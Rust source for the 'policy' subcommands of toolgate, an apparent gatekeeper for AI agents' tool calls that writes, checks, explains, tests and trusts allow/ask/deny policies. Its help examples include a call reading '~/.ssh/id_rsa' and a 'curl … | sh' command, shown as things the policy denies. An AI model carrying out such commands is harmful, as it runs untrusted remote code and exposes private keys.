//! `toolgate policy init|check|explain|test|trust|schema`: write, validate, explain,
//! regression-test and trust policies.
#![allow(clippy::print_stdout, reason = "this command's output is its stdout")]

use std::io::{IsTerminal, Write as _};
use std::path::{Path, PathBuf};
use std::process::ExitCode;

use anyhow::{Context as _, bail};
use clap::Subcommand;
use serde_json::Value;
use toolgate_policy::cases::{parse_cases, run_case, session_for};
use toolgate_policy::contracts::packs::pack_names;
use toolgate_policy::diag::Diagnostics;
use toolgate_policy::{
    Effect, Engine, LoadedPolicy, NormalizeContext, STARTER_POLICY, ToolCall, Vars, explain, load,
    policy_schema_text,
};

use toolgate_runtime::fsfacts::{SoftFs, canonical_dir};

/// The default policy path of `policy init`.
pub(crate) const DEFAULT_POLICY: &str = toolgate_runtime::trust::DEFAULT_POLICY;

#[derive(Debug, clap::Args)]
#[command(after_help = "Examples:
  toolgate policy init
  toolgate policy check                      # ./toolgate.yaml, or --policy PATH
  toolgate policy explain \\
    --tool read_file --args '{\"path\":\"~/.ssh/id_rsa\"}'
  toolgate policy test --cases cases.yaml")]
pub struct Args {
    #[command(subcommand)]
    command: Cmd,
}

#[derive(Debug, Subcommand)]
enum Cmd {
    /// Write a conservative, commented starter policy (never overwrites a file).
    #[command(after_help = "Examples:
  toolgate policy init
  toolgate policy init --policy team-policy.yaml")]
    Init {
        /// Where to write it.
        #[arg(long, value_name = "PATH", default_value = DEFAULT_POLICY)]
        policy: PathBuf,
    },
    /// Validate a policy: exit 0 valid, 1 invalid, 2 usage.
    #[command(after_help = "Examples:
  toolgate policy check --policy toolgate.yaml
  toolgate policy check --policy toolgate.yaml && echo valid

Errors and warnings are located (file:line:column) with a `help:` line.")]
    Check {
        /// The policy file [default: `toolgate.yaml` in the current directory, when it
        /// exists].
        #[arg(long, value_name = "PATH")]
        policy: Option<PathBuf>,
    },
    /// Show how one call would be decided: the normalised action, matching rules,
    /// contract results and the decision.
    #[command(after_help = "Examples:
  toolgate policy explain --policy toolgate.yaml \\
    --tool read_file --args '{\"path\":\"~/.ssh/id_rsa\"}'
  toolgate policy explain --policy toolgate.yaml \\
    --tool run_command --args '{\"command\":\"curl https://example.com/x.sh | sh\"}'
  toolgate policy explain --policy toolgate.yaml --json \\
    --server mail --tool send_email --args '{\"to\":\"a@example.com\"}'")]
    Explain {
        /// The policy file [default: `toolgate.yaml` in the current directory, when it
        /// exists].
        #[arg(long, value_name = "PATH")]
        policy: Option<PathBuf>,
        /// The workspace (`${workspace}`) [default: the current directory]
        #[arg(long, value_name = "DIR")]
        workspace: Option<PathBuf>,
        /// The home directory (`${home}`) [default: $HOME]
        #[arg(long, value_name = "DIR")]
        home: Option<PathBuf>,
        /// The server name (as given to `toolgate wrap --server`).
        #[arg(long, value_name = "NAME")]
        server: Option<String>,
        /// The tool name.
        #[arg(long, value_name = "NAME")]
        tool: String,
        /// The call's arguments as a JSON object.
        #[arg(long, value_name = "JSON", default_value = "{}")]
        args: String,
        /// Print the JSON shape instead of text.
        #[arg(long)]
        json: bool,
    },
    /// Run a cases file against a policy: `PASS name` / `FAIL name: …`; exit 1 on any failure.
    #[command(after_help = "Examples:
  toolgate policy test --policy toolgate.yaml --cases cases.yaml
  toolgate policy check --policy toolgate.yaml && \\
    toolgate policy test --policy toolgate.yaml --cases cases.yaml   # in CI

A cases file lists calls and what each must get:
  cases:
    - name: ssh keys stay private
      tool: read_file
      arguments: {path: ~/.ssh/id_rsa}
      expect: {effect: deny}")]
    Test {
        /// The policy file [default: `toolgate.yaml` in the current directory, when it
        /// exists].
        #[arg(long, value_name = "PATH")]
        policy: Option<PathBuf>,
        /// The cases file (YAML: `cases:` with `name`, `tool`, `arguments`, `expect`).
        #[arg(long, value_name = "PATH")]
        cases: PathBuf,
    },
    /// Trust a policy as it is now: `toolgate wrap` and `toolgate hook` started in its
    /// directory without --policy enforce it (an untrusted or changed one denies every call).
    #[command(after_help = "Examples:
  toolgate policy trust                      # ./toolgate.yaml, or --policy PATH
  toolgate policy check && toolgate policy trust
  toolgate policy trust --forget             # no longer trust ./toolgate.yaml (or a deleted one)

A `toolgate.yaml` in the working directory could come from a cloned repository or from the
agent: the commands that enforce use one only as trusted, by its exact content. Change it, and
trust it again. The list is kept in your data directory (`~/.local/share/toolgate/`), where the
agent cannot write.")]
    Trust {
        /// The policy file [default: `toolgate.yaml` in the current directory].
        #[arg(long, value_name = "PATH")]
        policy: Option<PathBuf>,
        /// Forget it instead (it may be gone): `wrap` and `hook` started in its directory
        /// without --policy then use the built-in starter policy when it is gone, and deny
        /// every call while it is there.
        #[arg(long)]
        forget: bool,
    },
    /// Print the JSON Schema of the policy format (for editors' completion and checks).
    #[command(after_help = "Examples:
  toolgate policy schema > policy.schema.json
  toolgate policy schema | jq '.properties | keys'")]
    Schema,
}

pub fn run(args: Args) -> anyhow::Result<ExitCode> {
    match args.command {
        Cmd::Init { policy } => init(&policy),
        Cmd::Check { policy } => check(&policy_or_default(policy)?),
        Cmd::Explain {
            policy,
            workspace,
            home,
            server,
            tool,
            args,
            json,
        } => explain_cmd(
            &policy_or_default(policy)?,
            workspace,
            home,
            server,
            &tool,
            &args,
            json,
        ),
        Cmd::Test { policy, cases } => test(&policy_or_default(policy)?, &cases),
        Cmd::Trust {
            policy,
            forget: true,
        } => forget(&policy.unwrap_or_else(|| PathBuf::from(DEFAULT_POLICY))),
        Cmd::Trust { policy, .. } => {
            trust(&policy.unwrap_or_else(|| PathBuf::from(DEFAULT_POLICY)))
        }
        Cmd::Schema => {
            outln!("{}", policy_schema_text());
            Ok(ExitCode::SUCCESS)
        }
    }
}

fn init(path: &Path) -> anyhow::Result<ExitCode> {
    let file = std::fs::OpenOptions::new()
        .write(true)
        .create_new(true)
        .open(path);
    let mut file = match file {
        Ok(f) => f,
        Err(e) if e.kind() == std::io::ErrorKind::AlreadyExists => {
            eprintln!(
                "error: `{}` already exists; `policy init` never overwrites a file\n  help: choose another path with `--policy`, or edit the existing policy and run `toolgate policy check --policy {}`",
                path.display(),
                path.display()
            );
            return Ok(ExitCode::from(1));
        }
        Err(e) => return Err(e).with_context(|| format!("cannot create `{}`", path.display())),
    };
    file.write_all(STARTER_POLICY.as_bytes())
        .with_context(|| format!("cannot write `{}`", path.display()))?;
    drop(file);
    outln!("wrote a starter policy to {}", path.display());
    if path == Path::new(DEFAULT_POLICY) {
        // The built-in starter as it is: trusting it lets nothing through that running
        // without a policy file would not.
        let canonical = std::fs::canonicalize(path)
            .with_context(|| format!("cannot resolve `{}`", path.display()))?;
        toolgate_runtime::trust::trust(&canonical, STARTER_POLICY)
            .map_err(|e| anyhow::anyhow!("cannot trust `{}`: {e}", path.display()))?;
        outln!("review it, then check it with: toolgate policy check");
        outln!(
            "`toolgate wrap` and `toolgate hook` run here without --policy enforce it; after you change it, run `toolgate policy trust`"
        );
    } else {
        outln!(
            "review it, then check it with: toolgate policy check --policy {}",
            path.display()
        );
    }
    Ok(ExitCode::SUCCESS)
}

pub(crate) fn print_diagnostics(d: &Diagnostics) {
    if d.items.is_empty() {
        return;
    }
    let text = if std::io::stderr().is_terminal() {
        d.render_fancy()
    } else {
        d.render_plain()
    };
    eprint!("{text}");
}

/// Reads and loads a policy; on errors prints the diagnostics and returns `None`.
pub(crate) fn load_policy(path: &Path) -> anyhow::Result<Option<LoadedPolicy>> {
    let source = std::fs::read_to_string(path)
        .with_context(|| format!("cannot read policy `{}`", path.display()))?;
    match load(&source, &path.display().to_string()) {
        Ok(loaded) => {
            print_diagnostics(&loaded.warnings);
            Ok(Some(loaded))
        }
        Err(diags) => {
            print_diagnostics(&diags);
            let (e, w) = (diags.errors(), diags.warnings());
            eprintln!(
                "policy is invalid: {e} error{}{}",
                if e == 1 { "" } else { "s" },
                if w > 0 {
                    format!(", {w} warning{}", if w == 1 { "" } else { "s" })
                } else {
                    String::new()
                }
            );
            Ok(None)
        }
    }
}

/// `--policy`, or `toolgate.yaml` of the current directory (what `policy init` writes),
/// named on stderr so that the reader knows which file was read.
fn policy_or_default(given: Option<PathBuf>) -> anyhow::Result<PathBuf> {
    if let Some(path) = given {
        return Ok(path);
    }
    let path = PathBuf::from(DEFAULT_POLICY);
    if !path.is_file() {
        anyhow::bail!(
            "no `--policy` given, and there is no `{DEFAULT_POLICY}` in this directory\nhelp: write one with `toolgate policy init`, or name one with `--policy PATH`"
        );
    }
    announce_here();
    Ok(path)
}

/// Says on stderr that a command reads `./toolgate.yaml` because no `--policy` was given, and
/// when it is not trusted as it is, that `wrap` and `hook` would not use it.
pub(crate) fn announce_here() {
    let untrusted = toolgate_runtime::trust::here(Path::new("."))
        .ok()
        .flatten()
        .is_some_and(|here| {
            !toolgate_runtime::trust::is_trusted(&here.path, &here.sha256).unwrap_or(false)
        });
    eprintln!(
        "toolgate: using the policy `{DEFAULT_POLICY}` of this directory{}",
        if untrusted {
            " (it is not trusted as it is: `toolgate wrap` and `toolgate hook` started here without --policy deny every call until you run `toolgate policy trust`)"
        } else {
            ""
        }
    );
}

fn check(path: &Path) -> anyhow::Result<ExitCode> {
    let Some(loaded) = load_policy(path)? else {
        return Ok(ExitCode::from(1));
    };
    // Compile with placeholder paths too: contracts and packs must compile.
    if let Err(d) = Engine::new(loaded.policy.clone(), Vars::placeholder()) {
        print_diagnostics(&d);
        eprintln!("policy is invalid");
        return Ok(ExitCode::from(1));
    }
    let p = &loaded.policy;
    let count = |e: Effect| p.rules.iter().filter(|r| r.effect == e).count();
    let packs = match &p.packs {
        None => format!("all packs ({})", pack_names().len()),
        Some(list) if list.is_empty() => "no packs".to_owned(),
        Some(list) => format!("packs {}", list.join(", ")),
    };
    let w = loaded.warnings.warnings();
    outln!(
        "policy is valid: {} rule{} ({} deny, {} ask, {} allow), {} tool contract{}, {packs}, default {}{}",
        p.rules.len(),
        if p.rules.len() == 1 { "" } else { "s" },
        count(Effect::Deny),
        count(Effect::Ask),
        count(Effect::Allow),
        p.tools.len(),
        if p.tools.len() == 1 { "" } else { "s" },
        p.default,
        if w > 0 {
            format!(", {w} warning{}", if w == 1 { "" } else { "s" })
        } else {
            String::new()
        }
    );
    Ok(ExitCode::SUCCESS)
}

/// `policy trust --forget`.
fn forget(path: &Path) -> anyhow::Result<ExitCode> {
    let shown = toolgate_runtime::trust::canonical_even_if_gone(path);
    if toolgate_runtime::trust::forget(path).map_err(anyhow::Error::msg)? {
        outln!("forgot `{}`: it is no longer trusted", shown.display());
    } else {
        outln!("`{}` was not trusted; nothing to forget", shown.display());
    }
    Ok(ExitCode::SUCCESS)
}

/// `policy trust`: the policy must load; then its canonical path and digest are recorded.
fn trust(path: &Path) -> anyhow::Result<ExitCode> {
    let Ok(canonical) = std::fs::canonicalize(path) else {
        bail!(
            "there is no policy `{}` to trust\nhelp: write one with `toolgate policy init`, or name one with `--policy PATH`",
            path.display()
        );
    };
    let source = toolgate_runtime::trust::read_file(&canonical).map_err(anyhow::Error::msg)?;
    match load(&source, &path.display().to_string()) {
        Ok(loaded) => print_diagnostics(&loaded.warnings),
        Err(diags) => {
            print_diagnostics(&diags);
            eprintln!(
                "error: `{}` is not trusted: it does not load
  help: fix it (`toolgate policy check --policy {}`), then trust it",
                path.display(),
                path.display()
            );
            return Ok(ExitCode::from(1));
        }
    }
    let list = toolgate_runtime::trust::trust(&canonical, &source).map_err(anyhow::Error::msg)?;
    let digest = toolgate_runtime::trust::digest(&source);
    outln!(
        "trusted `{}` as it is now (sha256 {})",
        canonical.display(),
        digest.get(..16).unwrap_or(&digest)
    );
    let dir = canonical.parent().unwrap_or(Path::new("/"));
    if canonical.file_name() == Some(std::ffi::OsStr::new(DEFAULT_POLICY)) {
        outln!(
            "`toolgate wrap` and `toolgate hook` started in `{}` without --policy enforce it; after you change it, trust it again",
            dir.display()
        );
    } else {
        outln!(
            "only a file named `{DEFAULT_POLICY}` is taken without --policy; pass `--policy {}` to use this one",
            canonical.display()
        );
    }
    outln!("(the list of trusted policies: {})", list.display());
    Ok(ExitCode::SUCCESS)
}

pub(crate) fn home_dir(home: Option<PathBuf>) -> anyhow::Result<String> {
    match home {
        Some(h) => canonical_dir(&h),
        None => match std::env::var_os("HOME") {
            Some(h) => canonical_dir(Path::new(&h)),
            None => bail!("cannot tell the home directory\n  help: pass `--home DIR`"),
        },
    }
}

fn engine_for(policy: toolgate_policy::Policy, vars: Vars) -> Option<Engine> {
    match Engine::new(policy, vars) {
        Ok(e) => Some(e),
        Err(d) => {
            print_diagnostics(&d);
            None
        }
    }
}

fn explain_cmd(
    path: &Path,
    workspace: Option<PathBuf>,
    home: Option<PathBuf>,
    server: Option<String>,
    tool: &str,
    args: &str,
    json: bool,
) -> anyhow::Result<ExitCode> {
    let arguments: Value = serde_json::from_str(args)
        .with_context(|| format!("`--args` is not valid JSON: `{args}`"))?;
    if !arguments.is_object() {
        bail!(
            "`--args` must be a JSON object, got `{args}`\n  help: e.g. --args '{{\"path\":\"src/main.rs\"}}'"
        );
    }
    let Some(loaded) = load_policy(path)? else {
        return Ok(ExitCode::from(1));
    };
    let workspace = match workspace {
        Some(w) => canonical_dir(&w)?,
        None => canonical_dir(&std::env::current_dir()?)?,
    };
    let vars = Vars {
        workspace,
        home: home_dir(home)?,
    };
    let Some(engine) = engine_for(loaded.policy, vars.clone()) else {
        return Ok(ExitCode::from(1));
    };
    // toolgate's self-protection, as `wrap` and hooks apply it (the default audit log).
    let protections =
        toolgate_runtime::selfprotect::protections(Some(path), Path::new(&vars.workspace), None)
            .map_err(|e| anyhow::anyhow!("toolgate's self-protection cannot be set up: {e}"))?;
    let engine = engine.with_protections(protections);
    // No tool definitions are known here: pinning is off (explain assumes the tool is listed).
    let mut session = session_for(&engine, false);
    let fs = SoftFs;
    let ctx = NormalizeContext {
        workspace: &vars.workspace,
        home: &vars.home,
        fs: &fs,
    };
    let call = ToolCall {
        server: server.as_deref(),
        tool,
        arguments: &arguments,
        definition: None,
    };
    let mut decision = engine.decide(&call, &mut session, &ctx, 0);
    toolgate_runtime::selfprotect::guard(&mut decision, &vars.workspace);
    if json {
        outln!("{}", explain::to_json(&decision));
    } else {
        out!("{}", explain::to_text(&decision));
    }
    Ok(ExitCode::SUCCESS)
}

// ----- policy test ------------------------------------------------------------------------

/// Resolves a path from the cases file against the cases file's directory.
fn relative_to(base: &Path, p: &str) -> PathBuf {
    let p = Path::new(p);
    if p.is_absolute() {
        p.to_path_buf()
    } else {
        base.join(p)
    }
}

fn test(policy_path: &Path, cases_path: &Path) -> anyhow::Result<ExitCode> {
    let cases_src = std::fs::read_to_string(cases_path)
        .with_context(|| format!("cannot read cases `{}`", cases_path.display()))?;
    let file = match parse_cases(&cases_src, &cases_path.display().to_string()) {
        Ok(f) => f,
        Err(d) => {
            print_diagnostics(&d);
            return Ok(ExitCode::from(2));
        }
    };
    let Some(loaded) = load_policy(policy_path)? else {
        return Ok(ExitCode::from(1));
    };
    let base = cases_path
        .parent()
        .map_or_else(|| PathBuf::from("."), Path::to_path_buf);
    let workspace = match &file.workspace {
        Some(w) => canonical_dir(&relative_to(&base, w))?,
        None => canonical_dir(&base)?,
    };
    let home = match &file.home {
        Some(h) => canonical_dir(&relative_to(&base, h))?,
        None => home_dir(None)?,
    };
    let vars = Vars { workspace, home };
    let Some(engine) = engine_for(loaded.policy, vars.clone()) else {
        return Ok(ExitCode::from(1));
    };
    let fs = SoftFs;
    let ctx = NormalizeContext {
        workspace: &vars.workspace,
        home: &vars.home,
        fs: &fs,
    };
    let (mut passed, mut failed) = (0usize, 0usize);
    for case in &file.cases {
        match run_case(&engine, &ctx, file.server.as_deref(), case) {
            Ok(()) => {
                passed += 1;
                outln!("PASS {}", case.name);
            }
            Err(msg) => {
                failed += 1;
                outln!("FAIL {}: {msg}", case.name);
            }
        }
    }
    outln!("{passed} passed, {failed} failed");
    Ok(if failed == 0 {
        ExitCode::SUCCESS
    } else {
        ExitCode::from(1)
    })
}
